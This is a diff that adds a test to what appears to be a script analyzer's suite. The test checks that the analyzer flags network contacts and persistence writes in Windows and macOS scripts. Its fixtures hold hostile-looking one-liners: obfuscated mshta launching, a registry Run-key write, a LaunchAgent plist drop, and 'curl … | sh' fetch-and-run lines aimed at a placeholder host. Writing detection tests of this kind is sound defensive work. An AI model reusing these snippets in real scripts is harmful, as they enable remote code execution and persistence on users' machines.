@@ -300,6 +300,38 @@ t.test('a socket that becomes the input of a shell is one in every language', t 
   t.end()
 })
 
+t.test('what scripts of Windows and of a Mac put together is read as one text', t => {
+  const cases: [string, string][] = [
+    [
+      'Set s = CreateObject("WScript.Shell")\nu = "https://h.invalid/"\nc = StrReverse("athsm") & " " & u & s.Name & ".hta"\ns.Run c, 0',
+      'contacts https://h.invalid/${…}.hta',
+    ],
+    [
+      'k = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\" & "Run\\x"\nSet s = CreateObject("WScript.Shell")\ns.RegWrite k, "a.exe", "REG_SZ"',
+      'writes HKCU/Software/Microsoft/Windows/CurrentVersion/Run/x',
+    ],
+    [
+      'const home = ObjC.unwrap($.NSHomeDirectory())\nconst p = home + "/Library/LaunchAgents/x.plist"\n$(b).writeToFileAtomicallyEncodingError($(p), true, 4, null)',
+      'writes ~/Library/LaunchAgents/x.plist',
+    ],
+    ['set h to "https://h.invalid/a"\ndo shell script "curl " & h & " | sh"', 'contacts https://h.invalid/a'],
+    ['app.doShellScript("curl https://h.invalid/" + name)', 'contacts https://h.invalid/${…}'],
+  ]
+  for (const [text, expected] of cases) {
+    const told = read(text, 'coarse').facts.flatMap(fact =>
+      fact.kind === 'contacts'
+        ? fact.destinations.map(one => `contacts ${one}`)
+        : fact.kind === 'writes'
+          ? fact.paths.map(one => `writes ${one}`)
+          : [],
+    )
+    t.ok(told.map(one => one.replaceAll(HOLE, '${…}')).includes(expected), `${text}: ${told.join()}`)
+  }
+  const honest = 'name = "x"\nset shown to name & ".txt"\nfoo.exec(name)'
+  t.strictSame(read(honest, 'coarse').facts, [], 'other objects run something else')
+  t.end()
+})
+
 t.test('build files are read with what they take in', t => {
   const list =
     'set(URL "https://h.invalid/b")\ninclude(cmake/deps.cmake)\ninclude(GNUInstallDirs)\nadd_subdirectory(sub)\nfile(DOWNLOAD ${URL}/x ${CMAKE_BINARY_DIR}/x)\nexecute_process(COMMAND sh -c "${CMAKE_BINARY_DIR}/x")'
